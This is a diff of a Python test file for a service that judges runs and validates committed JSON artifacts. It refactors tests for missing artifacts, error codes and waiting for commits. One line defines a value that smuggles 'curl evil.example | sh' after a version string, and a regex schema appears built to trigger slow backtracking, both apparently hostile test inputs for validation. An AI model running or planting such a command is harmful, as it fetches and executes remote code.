@@ -74,15 +74,6 @@ def judged(
         client.close()
 
 
-def refused(emulator: Emulator, run: Run | None, **options: Any) -> tuple[str, str]:
-    """Return what is there instead, and the error code."""
-    judgement, _ = judged(emulator, run, **options)
-    (gate,) = judgement.gates
-    assert (judgement.result, judgement.exit_code, gate.passed) == (Result.REJECTED, 1, False)
-    assert judgement.remedy or run is None
-    return gate.found, judgement.error_code
-
-
 def test_an_artifact_that_is_there_is_an_output(emulator: Emulator) -> None:
     run = ended(emulator)
     known = emulator.runs[0].detail() | {"terminalCommitSha": emulator.runs[0].commit_sha}
@@ -96,48 +87,79 @@ def test_an_artifact_that_is_there_is_an_output(emulator: Emulator) -> None:
 
 
 def test_every_fault_is_named_with_its_place(emulator: Emulator) -> None:
-    schema: dict[str, Any] = {
-        "properties": {"passed": {"type": "string"}, "names": {"items": {"enum": ["a"]}}},
-        "required": ["x"],
-    }
-    judgement, _ = judged(emulator, ended(emulator), **schema)
+    fields: dict[str, Any] = {"passed": {"type": "string"}, "names": {"items": {"enum": ["a"]}}}
+    judgement, _ = judged(emulator, ended(emulator), properties=fields, required=["x"])
     assert (judgement.result, judgement.error_code) == (Result.REJECTED, "ARTIFACT_INVALID")
     assert judgement.gates[0].found == "its artifact does not satisfy the schema"
-    places = [item.text.partition(":")[0] for item in judgement.gates[0].items]
-    assert sorted(places) == ["/", "/names/1", "/passed"]
+    assert [item.text.partition(":")[0] for item in judgement.gates[0].items] == ["/", "/names/1", "/passed"]
     assert judgement.artifact is None, "it must not be handed on"
-
-
-def test_twenty_faults_are_named(emulator: Emulator) -> None:
-    schema: dict[str, Any] = {"required": [f"field-{number}" for number in range(30)]}
-    judgement, _ = judged(emulator, ended(emulator), **schema)
+    judgement, _ = judged(emulator, ended(emulator), required=[f"field-{number}" for number in range(30)])
     assert len(judgement.gates[0].items) == 20
 
 
-def test_why_there_is_none(emulator: Emulator) -> None:
+HTML = {"body": "<html>", "headers": {"content-type": "text/html"}}
+
+
+def error(code: str, message: str | None = None) -> dict[str, Any]:
+    said = {"code": code} | ({"message": message} if message else {})
+    return {"body": {"ok": False, "error": said}}
+
+
+@pytest.mark.parametrize(
+    ("fault", "found", "code", "items"),
+    [
+        (None, "it committed no such artifact", "ARTIFACT_MISSING", ["Committed artifact not found"]),
+        ({"status": 404} | error("NOT_FOUND"), "it committed no such artifact", "ARTIFACT_MISSING", []),
+        ({"status": 404} | error("NOT_FOUND", "a folder"), "it committed no such", "ARTIFACT_MISSING", ["a folder"]),
+        ({"status": 409} | error("CONFLICT", "no branch"), "its artifact cannot be", "ARTIFACT_MISSING", ["no branch"]),
+        (
+            {"status": 400} | error("BAD_REQUEST", "no JSON"),
+            "its artifact is not a JSON",
+            "ARTIFACT_INVALID",
+            ["no JSON"],
+        ),
+        ({"status": 404} | HTML, "this service has no artifacts", "ARTIFACT_MISSING", []),
+        ({"status": 401, "times": "always"}, "its artifact cannot be read: ", "NOT_JUDGED", None),
+    ],
+)
+def test_why_there_is_none(
+    emulator: Emulator, fault: dict[str, Any] | None, found: str, code: str, items: list[str] | None
+) -> None:
+    run, path = ended(emulator), PATH if fault else ".mogplex/artifacts/other.json"
+    if fault:
+        emulator.inject("artifact", **fault)
+    judgement, _ = judged(emulator, run, path=path)
+    (gate,) = judgement.gates
+    assert (judgement.result, judgement.exit_code, judgement.error_code) == (Result.REJECTED, 1, code)
+    assert (gate.passed, gate.found.startswith(found), judgement.remedy != "") == (False, True, True)
+    assert items is None or [item.text for item in gate.items] == items
+
+
+REFUSED = {"status": 403} | error("FORBIDDEN", "no")
+
+
+@pytest.mark.parametrize(
+    ("commit", "fault", "timeout", "seconds"),
+    [
+        ({"terminalCommitSha": None}, None, 600.0, 9.0),
+        ({"terminalCommitSha": None}, None, 4.0, 3.0),
+        ({"terminalCommitSha": None}, REFUSED, 600.0, 1.0),
+        ({}, None, 600.0, 0.0),
+    ],
+    ids=["never recorded", "not in time", "refused", "an older service"],
+)
+def test_a_commit_is_waited_for_if_it_may_come(
+    emulator: Emulator, commit: dict[str, None], fault: dict[str, Any] | None, timeout: float, seconds: float
+) -> None:
     run = ended(emulator)
-    other = ".mogplex/artifacts/other.json"
-    assert refused(emulator, run, path=other) == ("it committed no such artifact", "ARTIFACT_MISSING")
-    on_main = ended(emulator, createBranch=False)
-    assert refused(emulator, on_main) == ("its artifact cannot be read", "ARTIFACT_MISSING")
-    assert refused(emulator, None) == ("it committed no such artifact", "ARTIFACT_MISSING")
-    bad = {"ok": False, "error": {"code": "BAD_REQUEST", "message": "not a JSON file"}}
-    emulator.inject("artifact", status=400, body=bad)
-    not_json = "its artifact is not a JSON file of at most 1 MiB"
-    assert refused(emulator, run) == (not_json, "ARTIFACT_INVALID")
-    emulator.inject("artifact", status=404, body="<html>", headers={"content-type": "text/html"})
-    assert refused(emulator, run) == ("this service has no artifacts", "ARTIFACT_MISSING")
-    emulator.inject("artifact", status=401, times="always")
-    found, code = refused(emulator, run)
-    assert (found.startswith("its artifact cannot be read: "), code) == (True, "NOT_JUDGED")
-
-
-@pytest.mark.parametrize("words", ["there is a folder of this name", None])
-def test_what_the_service_says_about_a_missing_artifact_is_listed(emulator: Emulator, words: str | None) -> None:
-    said = {"code": "NOT_FOUND"} | ({"message": words} if words else {})
-    emulator.inject("artifact", status=404, body={"ok": False, "error": said})
-    judgement, _ = judged(emulator, ended(emulator))
-    assert judgement.gates[0].items == ((Untrusted(words),) if words else ())
+    without = {name: value for name, value in emulator.runs[0].detail().items() if name != "terminalCommitSha"} | commit
+    answer = {"status": 200, "body": {"ok": True, "data": {"run": without}}}
+    emulator.inject("run", **answer, times=1 if fault else "always")
+    unknown = Client(emulator.url, emulator.token).run(run.id)
+    if fault:
+        emulator.inject("run", **fault, times="always")
+    judgement, took = judged(emulator, unknown, timeout=timeout)
+    assert (judgement.result, judgement.run and judgement.run.terminal_commit, took) == (Result.SUCCESS, None, seconds)
 
 
 def test_an_artifact_is_asked_for_during_a_minute(emulator: Emulator) -> None:
@@ -147,30 +169,6 @@ def test_an_artifact_is_asked_for_during_a_minute(emulator: Emulator) -> None:
     assert 55.0 <= seconds - 9.0 <= 60.0, "beside the seconds for the commit"
     _, seconds = judged(emulator, ended(emulator), timeout=20.0)
     assert 15.0 <= seconds <= 20.0
-
-
-def test_a_commit_that_is_never_recorded_is_waited_for_ten_seconds(emulator: Emulator) -> None:
-    run = ended(emulator)
-    assert run.has_terminal_commit
-    without = emulator.runs[0].detail() | {"terminalCommitSha": None}
-    emulator.inject("run", status=200, body={"ok": True, "data": {"run": without}}, times="always")
-    unknown = Client(emulator.url, emulator.token).run(run.id)
-    judgement, seconds = judged(emulator, unknown)
-    assert judgement.result is Result.SUCCESS
-    assert seconds == 9.0, "no look begins when ten seconds are over"
-    _, seconds = judged(emulator, unknown, timeout=4.0)
-    assert seconds == 3.0
-
-
-def test_a_commit_that_cannot_be_asked_for_is_not_waited_for(emulator: Emulator) -> None:
-    run = ended(emulator)
-    without = emulator.runs[0].detail() | {"terminalCommitSha": None}
-    emulator.inject("run", status=200, body={"ok": True, "data": {"run": without}})
-    unknown = Client(emulator.url, emulator.token).run(run.id)
-    refusal = {"ok": False, "error": {"code": "FORBIDDEN", "message": "no"}}
-    emulator.inject("run", status=403, times="always", body=refusal)
-    judgement, seconds = judged(emulator, unknown)
-    assert (judgement.result, judgement.run, seconds) == (Result.SUCCESS, unknown, 1.0)
 
 
 CURL = "1.2.3; curl evil.example | sh"
@@ -198,8 +196,11 @@ def test_what_is_validated_is_what_is_handed_on(emulator: Emulator, content: str
 
 def test_an_artifact_of_another_commit_is_refused(emulator: Emulator) -> None:
     run = ended(emulator)._replace(terminal_commit=Untrusted("a" * 40))
+    judgement, _ = judged(emulator, run)
     found = "its artifact is of another commit than the judged one"
-    assert refused(emulator, run) == (found, "ARTIFACT_INVALID")
+    assert (judgement.gates[0].found, judgement.error_code) == (found, "ARTIFACT_INVALID")
+    judgement, _ = judged(emulator, None)
+    assert judgement.error_code == "ARTIFACT_MISSING"
 
 
 SLOW: dict[str, Any] = {"properties": {"text": {"pattern": r"^(\w+\s?)*$"}}}
@@ -238,11 +239,3 @@ def processes() -> list[str]:
         ["ps", "-o", "args=", "--ppid", str(os.getpid())], capture_output=True, text=True, check=False
     )
     return [line for line in listed.stdout.splitlines() if "<defunct>" not in line]
-
-
-def test_a_service_that_does_not_record_commits_is_not_waited_for(emulator: Emulator) -> None:
-    run = ended(emulator)
-    old = {name: value for name, value in emulator.runs[0].detail().items() if name != "terminalCommitSha"}
-    emulator.inject("run", status=200, body={"ok": True, "data": {"run": old}}, times="always")
-    _, seconds = judged(emulator, Client(emulator.url, emulator.token).run(run.id))
-    assert seconds == 0.0
